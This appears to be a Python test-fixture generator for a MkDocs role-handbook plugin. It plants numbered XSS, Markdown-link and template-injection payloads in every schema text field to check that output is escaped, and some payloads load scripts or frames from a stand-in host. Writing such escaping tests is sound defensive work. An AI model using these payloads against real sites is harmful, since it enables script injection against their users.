"""A hostile handbook: payloads in every text field of the schema, and the same handbook in harmless words.

The fields are found by walking the models, so a new one is covered by itself. Payloads are dealt out in hands: role 0
has the first hand of them in all its fields, role 1 the second, and so on, as skills, KPIs, tools, levels and the like
have. Lists get one item for each payload of the hand, single fields all of them in one line. What comes last has those
that Markdown could take for its own, as paragraphs, in each field that may have several lines. Every payload that is
planted has a number of its own, by which it is found again.
"""

import json
import re
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass
from datetime import date
from enum import Enum
from pathlib import Path
from typing import Annotated, Any, get_args, get_origin
from zlib import crc32

from pydantic import BaseModel, TypeAdapter, ValidationError
from pydantic.fields import FieldInfo

from rolebook.model import schema
from rolebook.model.fields import Reference

FOREIGN = "foreign.invalid"

# In all of these @@ stands for the number. Elements and attributes that run a script, or fetch something from afar:
ACTIVE = (
    "<script>hit(@@)</script>",
    "<ScRiPt >hit(@@)</sCrIpT >",
    "<script/x>hit(@@)</script/x>",
    "<script type=module>hit(@@)</script>",
    f"<script src=//{FOREIGN}/@@.js></script>",
    "<svg><script>hit(@@)</script></svg>",
    "<img src=x onerror=hit(@@)>",
    '<img/src="x"/onerror=hit(@@)>',
    "<svg onload=hit(@@)>",
    "<details open ontoggle=hit(@@)>x</details>",
    "<input autofocus onfocus=hit(@@)>",
    "<select autofocus onfocus=hit(@@)></select>",
    "<p tabindex=0 onfocus=hit(@@)>x</p>",
    "<p onclick=hit(@@) onmouseover=hit(@@)>x</p>",
    "<video><source onerror=hit(@@)></video>",
    "<audio src=x onerror=hit(@@)></audio>",
    "<body onload=hit(@@)>",
    "<math><img src=x onerror=hit(@@)></math>",
    "<object data=x onerror=hit(@@)></object>",
    "<style onload=hit(@@)></style>",
    "<svg><animate onbegin=hit(@@) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:hit(@@)><text>x</text></a>",
    "<form action=javascript:hit(@@)><button>x</button></form>",
    "<button formaction=javascript:hit(@@)>x</button>",
    "<a href=javascript:hit(@@)>x</a>",
    '<a href="java&#10;script:hit(@@)">x</a>',
    '<iframe srcdoc="<script>parent.hit(@@)</script>"></iframe>',
    "<iframe src=javascript:parent.hit(@@)></iframe>",
    f"<iframe src=http://{FOREIGN}/@@></iframe>",
    f"<object data=http://{FOREIGN}/@@></object>",
    f"<embed src=http://{FOREIGN}/@@>",
    f'<meta http-equiv=refresh content="0;url=http://{FOREIGN}/@@">',
    f"<link rel=stylesheet href=http://{FOREIGN}/@@.css>",
    f"<style>@import url(http://{FOREIGN}/@@);</style>",
    f'<p style="background:url(http://{FOREIGN}/@@)">x</p>',
    f"<img src=http://{FOREIGN}/@@>",
    '<noscript><p title="</noscript><img src=x onerror=hit(@@)>">',
    "<xmp></xmp><img src=x onerror=hit(@@)>",
    "</title><script>hit(@@)</script>",
    "</script><script>hit(@@)</script>",
    "</textarea><img src=x onerror=hit(@@)>",
    "</main></div></body><img src=x onerror=hit(@@)>",
    "--><img src=x onerror=hit(@@)><!--",
    '"><img src=x onerror=hit(@@)>',
    "'><svg onload=hit(@@)>",
)
# What only tears a page apart, or works as a value of an attribute, as Markdown or in a template:
PASSIVE = (
    f"<base href=http://{FOREIGN}/@@/>",
    '<svg><style><img title="</style><img src=x onerror=hit(@@)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=hit(@@)>",
    "<template><script>hit(@@)</script></template>",
    "<plaintext>@@",
    "<!-- @@",
    "<textarea>@@",
    "<b>@@",
    "</div></section></main>@@",
    "<script>hit(@@)//",
    "<![CDATA[<script>hit(@@)</script>]]>",
    "<? hit(@@) ?>",
    '" onmouseover="hit(@@)" x="',
    "' autofocus tabindex=0 onfocus='hit(@@)",
    "x onload=hit(@@)",
    "javascript:hit(@@)",
    "[x](javascript:hit(@@))",
    "[x](JaVaScRiPt:hit(@@))",
    "[x](&#106;avascript&colon;hit(@@))",
    "[x](<javascript:hit(@@)>)",
    '[x](javascript:hit(@@) "x")',
    "[x](java\tscript:hit(@@))",
    "[x](vbscript:hit(@@))",
    "[x](data:text/html,<script>hit(@@)</script>)",
    '[x](http://foreign.invalid/"onclick="hit(@@))',
    "[x](http://foreign.invalid/@@){ onclick=hit(@@) }",
    "*x*{ onclick=hit(@@) onfocus=hit(@@) tabindex=0 }",
    "{: onclick=hit(@@) }",
    "![x](http://foreign.invalid/@@.png)",
    "![x](http://foreign.invalid/){ onerror=hit(@@) }",
    "[x][@@]",
    "[@@]: javascript:hit(@@)",
    "<javascript:hit(@@)>",
    "<http://foreign.invalid/@@>",
    "http://foreign.invalid/@@",
    "`<img src=x onerror=hit(@@)>`",
    '--8<-- "mkdocs.yml" @@',
    "```mermaid @@",
    "~~~ @@",
    '!!! note "@@"',
    ":smile: [^@@] ==x== ^^x^^ {--x--}",
    "{{ 7*7 }} @@ {{ config }}",
    "{% raw %} @@ {% include 'x' %}",
    "${hit(@@)} #{hit(@@)}",
    "--- @@",
    "# @@",
    "> @@",
    "- @@",
    "| a | b | @@ |",
    "%3Cscript%3Ehit(@@)%3C/script%3E",
    "&lt;script&gt;hit(@@)&lt;/script&gt;",
    "&#60;script&#62;hit(@@)&#60;/script&#62;",
    r"\u003cscript\u003ehit(@@)\u003c/script\u003e",
    r"\<script>hit(@@)\</script>",
)
# Text that means what it says:
HONEST = (
    "C++ | C# @@",
    "< 3 years @@",
    "R&D @@ &amp; &copy",
    "snake_case_@@",
    "2026. A good year. @@",
    "1 * 2 * @@",
    "5 > 4 <3 @@",
)
PAYLOADS = (*ACTIVE, *PASSIVE, *HONEST)

_LONGEST_LINE = 300
_FIRST_NUMBER = 100_000
NUMBER = re.compile(r"(?<!\d)\d{6}(?!\d)")
_MARKDOWN = re.compile(r"[*_`\[\\]")
_LIST = re.compile(r"(-|\d+\.) ")
# Values that can't be made up from the type.
_VALUES = {
    "role.codes.esco": "http://data.europa.eu/esco/occupation/1c5a45b9-440e-4726-b565-16a952abd341",
    "role.codes.onet_soc": "15-1221.00",
    "role.codes.isco_08": "2511",
}


@dataclass(frozen=True, slots=True)
class TextField:
    """A field that takes any text, by the names that lead to it; a line is plain text, other text may hold Markdown."""

    path: str
    is_line: bool


@dataclass(frozen=True, slots=True)
class Plant:
    """A payload in a field, with its number in it."""

    field: TextField
    payload: str
    number: str
    text: str
    is_paragraph: bool

    @property
    def is_literal(self) -> bool:
        """Whether readers must see it exactly as it was typed: all of it is, but for the small inline Markdown."""
        is_list = self.is_paragraph and _LIST.match(self.text)
        return self.field.is_line or not (is_list or _MARKDOWN.search(self.text))


@dataclass(frozen=True, slots=True)
class _Hand:
    """The payloads that an entry holds, and what stands between them where the text may have several lines."""

    lines: tuple[str, ...]
    texts: tuple[str, ...]
    joint: str = " "

    @property
    def parts(self) -> list["_Hand"]:
        """A hand for each payload; what is told in paragraphs stays together."""
        return [self] if self.joint != " " else [_Hand((one,), (one,)) for one in self.lines]

    @property
    def halves(self) -> list["_Hand"]:
        """Two hands."""
        middle = (len(self.lines) + 1) // 2
        halves = (self.lines[:middle], self.lines[middle:])
        return [self] if self.joint != " " else [_Hand(half, half) for half in halves if half]


def _numbered(payload: str, number: int) -> str:
    return payload.replace("@@", str(number))


def _hands() -> tuple[_Hand, ...]:
    """Deal the payloads out, so that each hand fits into a line."""
    hands: list[list[str]] = [[]]
    for payload in PAYLOADS:
        if sum(len(_numbered(one, _FIRST_NUMBER)) + 1 for one in (*hands[-1], payload)) > _LONGEST_LINE:
            hands.append([])
        hands[-1].append(payload)
    dealt = [_Hand(tuple(hand), tuple(hand)) for hand in hands]
    return (*dealt, _Hand(PAYLOADS[:1], (*PASSIVE, *HONEST), "\n\n"))


HANDS = _hands()


def text_fields() -> tuple[TextField, ...]:
    """Return every field of the schema that takes any text."""
    return tuple(field for name, model in schema.MODELS.items() for field in _fields_of(model, name))


def _fields_of(model: type[BaseModel], path: str) -> Iterator[TextField]:
    for name, info in model.model_fields.items():
        hint = _innermost(_hint(info))
        if _is_model(hint):
            yield from _fields_of(hint, f"{path}.{name}")
        elif (is_line := _takes_text(hint)) is not None:
            yield TextField(f"{path}.{name}", is_line)


def harmless(text: str) -> str:
    """Return the text with the same words and blanks, and nothing in it that could have a meaning to a machine."""
    return re.sub(r"[^A-Za-z0-9\s]", "!", text)


# --- types ----------------------------------------------------------------------------------------------------------


def _hint(info: FieldInfo) -> Any:
    """Return the type of a field with its marks."""
    hint = info.annotation
    for mark in info.metadata:
        hint = Annotated[hint, mark]
    return hint


def _bare(hint: Any) -> Any:
    """Return a type without None beside it; marks stay, but for those of lists."""
    if get_origin(hint) is Annotated:
        bare = _bare(get_args(hint)[0])
        if get_origin(bare) is tuple or _is_model(bare):
            return bare
        for mark in hint.__metadata__:
            bare = Annotated[bare, mark]
        return bare
    if type(None) in get_args(hint):
        return next(part for part in get_args(hint) if part is not type(None))
    return hint


def _innermost(hint: Any) -> Any:
    bare = _bare(hint)
    return _innermost(get_args(bare)[0]) if get_origin(bare) is tuple else bare


def _is_model(hint: Any) -> bool:
    return isinstance(hint, type) and issubclass(hint, BaseModel)


def _takes_text(hint: Any) -> bool | None:
    """Return whether a type takes one line of any text (true), several lines (false), or no such text (none)."""
    try:
        TypeAdapter(hint).validate_python("<any> text, such as “*this*”")
    except ValidationError:
        return None
    try:
        TypeAdapter(hint).validate_python("two\nlines")
    except ValidationError:
        return True
    return False


def _reference(hint: Any) -> str | None:
    return next((mark.kind for mark in getattr(hint, "__metadata__", ()) if isinstance(mark, Reference)), None)


def _refers(model: type[BaseModel]) -> bool:
    """Tell whether entries of the model are about one other entry each, so that a list can't hold many of them."""
    return any(_reference(_bare(_hint(info))) for info in model.model_fields.values())


# --- the handbook ---------------------------------------------------------------------------------------------------


class Writer:
    """Makes up specs with a payload in every text field, or with harmless words in its place."""

    def __init__(self, *, is_harmless: bool) -> None:
        self.plants: list[Plant] = []
        self._is_harmless = is_harmless
        self._turn = 0
        """The number of the role, skill and the like that is made up; references go on from there."""

    def write(self, root: Path) -> None:
        """Write the handbook with everything in it."""
        title = "</title><script>hit(1)</script>\"'><img src=x onerror=hit(2)> site"
        self._settings(root, title)
        _save(root / "roles/framework.yml", self._framework())
        _save(root / "roles/tools.yml", {"tools": self._all_of(schema.ToolSpec, "tools.tools")})
        for place, model, path in (("skills", schema.SkillSpec, "skill"), ("kpis", schema.KpiSpec, "kpi")):
            for number, entry in enumerate(self._all_of(model, path)):
                _save(root / f"roles/{place}/{path}-{number}.yml", entry)
        roles = self._all_of(schema.RoleSpec, "role")
        for number, entry in enumerate(roles):
            role = entry | _place(number)
            following = [{"role": f"role-{number + 1}"}] if number + 1 < len(roles) else []
            beside = [{"role": f"role-{number - 2}"}] if number in {2, 3} else []
            role["career"]["next"] += following
            role["career"]["adjacent"] += beside
            role["boundaries"] += following
            role["stakeholders"]["peers"] += following
            if not following:
                del role["career"]["promotion"]
            _save(root / f"roles/{role['family']}/role-{number}.yml", role)

    def write_covers(self, root: Path) -> None:
        """Write a small handbook for each hand but the last, for the fields that stand once in a handbook."""
        for number, hand in enumerate(HANDS[:-1]):
            entry = {"id": "one", "title": "One", "purpose": "One.", "scope": "One.", "autonomy": "One."}
            level = {key: entry[key] for key in ("id", "title", "scope", "autonomy")} | {"impact": "One."}
            framework = self._singles(hand) | {
                "families": [{key: entry[key] for key in ("id", "title", "purpose")}],
                "tracks": [{"id": "one", "title": "One", "levels": [level]}],
            }
            duties = [{"category": "One", "items": [{"id": "one", "title": "One"}]}]
            place = {"family": "one", "track": "one", "level": "one"}
            self._settings(root / str(number), "One")
            _save(root / str(number) / "roles/framework.yml", framework)
            for name, beside in (("one", [{"role": "two"}]), ("two", [])):
                role = {"title": name, "summary": "One.", "responsibilities": duties, "career": {"adjacent": beside}}
                _save(root / str(number) / f"roles/one/{name}.yml", role | place)

    def _settings(self, root: Path, name: str) -> None:
        theme = {"name": "material"}
        name = harmless(name) if self._is_harmless else name
        settings = {"site_name": name, "docs_dir": "roles", "theme": theme, "plugins": ["rolebook"], "strict": True}
        _save(root / "mkdocs.yml", settings)

    def _framework(self) -> dict[str, Any]:
        """Return what all roles share; lists have an entry for each hand."""
        data = self._singles(HANDS[-1])
        for name, info in schema.FrameworkSpec.model_fields.items():
            path, item = f"framework.{name}", _bare(_hint(info))
            if get_origin(item) is not tuple:
                continue
            inner = _bare(get_args(item)[0])
            if inner is schema.Term:  # a term becomes an anchor and the name of a file, which can't be that long
                parts = [part for hand in HANDS for part in hand.parts]
                data[name] = [self._model(inner, path, part, (n,)) for n, part in enumerate(parts)]
            elif _is_model(inner):
                data[name] = self._all_of(inner, path)
            else:
                data[name] = [self._value(inner, path, hand, ()) for hand in HANDS[:-1]]
        return data

    def _singles(self, hand: _Hand) -> dict[str, Any]:
        hints = {name: _bare(_hint(info)) for name, info in schema.FrameworkSpec.model_fields.items()}
        return {
            name: self._value(hint, f"framework.{name}", hand, ())
            for name, hint in hints.items()
            if get_origin(hint) is not tuple
        }

    def _all_of(self, model: type[BaseModel], path: str) -> list[dict[str, Any]]:
        entries = []
        for self._turn, hand in enumerate(HANDS):
            entries.append(self._model(model, path, hand, (self._turn,)))
        return entries

    def _model(
        self, model: type[BaseModel], path: str, hand: _Hand, steps: tuple[int, ...], *without: str
    ) -> dict[str, Any]:
        return {
            name: self._value(_bare(_hint(info)), f"{path}.{name}", hand, steps)
            for name, info in model.model_fields.items()
            if name not in without
        }

    def _value(self, hint: Any, path: str, hand: _Hand, steps: tuple[int, ...]) -> Any:
        if get_origin(hint) is tuple:
            return self._list(_bare(get_args(hint)[0]), path, hand, steps)
        if _is_model(hint):
            return self._model(hint, path, hand, steps)
        if (is_line := _takes_text(hint)) is not None:
            return self._text(TextField(path, is_line), hand)
        return self._fact(hint, path, steps)

    def _list(self, item: Any, path: str, hand: _Hand, steps: tuple[int, ...]) -> list[Any]:
        if _is_model(item):
            return self._entries(item, path, hand, steps)
        if (is_line := _takes_text(item)) is not None:
            field = TextField(path, is_line)
            parts = hand.parts if not is_line else [_Hand((one,), ()) for one in hand.lines]
            return [self._text(field, part) for part in parts]
        if path.endswith(".former_ids"):
            return ["-".join(("former", path.partition(".")[0], *map(str, steps)))] if self._turn == 0 else []
        return [self._fact(item, path, steps)]

    def _entries(self, model: type[BaseModel], path: str, hand: _Hand, steps: tuple[int, ...]) -> list[dict[str, Any]]:
        if model is schema.ProficiencyStep:  # it has one of the two
            return [self._model(model, path, hand, (*steps, n), key) for n, key in enumerate(("undefined", "can"))]
        if model is schema.RoleStep:  # roles by title; those by id are put in afterwards
            return [self._model(model, path, part, steps, "role") for part in hand.parts]
        parts = hand.parts
        if model is schema.Promotion:
            parts = [hand]
        elif _refers(model) or model is schema.Level:
            parts = hand.halves
        return [self._model(model, path, part, (*steps, n)) for n, part in enumerate(parts)]

    def _text(self, field: TextField, hand: _Hand) -> str:
        """Return the payloads of the hand as one text, beginning with another one in each field."""
        chosen = hand.lines if field.is_line else hand.texts
        first = crc32(field.path.encode()) % len(chosen)
        joint = " " if field.is_line else hand.joint
        return joint.join(self._plant(field, payload, joint) for payload in (*chosen[first:], *chosen[:first]))

    def _plant(self, field: TextField, payload: str, joint: str) -> str:
        number = _FIRST_NUMBER + len(self.plants)
        plant = Plant(field, payload, str(number), _numbered(payload, number), joint != " ")
        self.plants.append(plant)
        return harmless(plant.text) if self._is_harmless else plant.text

    def _fact(self, hint: Any, path: str, steps: tuple[int, ...]) -> Any:
        """Return a value for a field that takes no text: one that is allowed, and leads somewhere."""
        name = path.rpartition(".")[2]
        if kind := _reference(hint):
            return self._target(kind, path, steps)
        if isinstance(hint, type) and issubclass(hint, Enum):
            return list(hint)[sum(steps) % len(hint)].value
        bare = get_args(hint)[0] if get_origin(hint) is Annotated else hint
        if bare is date:
            return "2026-01-31"
        if bare in {int, bool}:
            return {"min": 1, "max": 2}.get(name, 1) if bare is int else True
        return _VALUES[path] if name != "id" else _id(path, steps)

    def _target(self, kind: str, path: str, steps: Sequence[int]) -> str:
        """Return an entry of a kind; within one role no two uses lead to the same one."""
        lists = {"KPI": "kpi", "KPI kind": "kpi-kinds", "skill category": "skill-categories", "tool": "tools"}
        lists |= {"tool category": "tool-categories", "proficiency level": "proficiency", "family": "families"}
        lists |= {"level of importance": "importance", "track": "tracks", "skill": "skill", "role": "role"}
        lists |= {"level": "tracks-levels-0"}
        offset = {"good_to_have": 2, "advanced": 4, "emerging": 6, "soft_skills": 8}
        more = sum(offset.get(step, 0) for step in path.split(".")) + steps[-1] if len(steps) > 1 else 0
        if kind == "proficiency level" and path.startswith("skill."):
            return f"proficiency-{min(self._turn, len(HANDS) - 2) + steps[-1]}"
        if kind == "role":
            return f"role-{self._turn + 1}"
        return f"{lists[kind]}-{(self._turn + more) % len(HANDS)}"


def _place(number: int) -> dict[str, str]:
    """Return where a role stands: two and two share a family and a track, and stand on its two levels."""
    group = number - number % 2 if number + 1 < len(HANDS) else number
    level = {"level": f"tracks-levels-{group}-{number - group}"}
    return {"family": f"families-{group}", "track": f"tracks-{group}"} | level


def _id(path: str, steps: Iterable[int]) -> str:
    return "-".join((*path.split(".")[1:-1], *map(str, steps))).replace("_", "-")


def _save(path: Path, data: object) -> None:
    """Write a file as JSON, which is YAML, too."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(data, ensure_ascii=False, indent=1), encoding="utf-8")
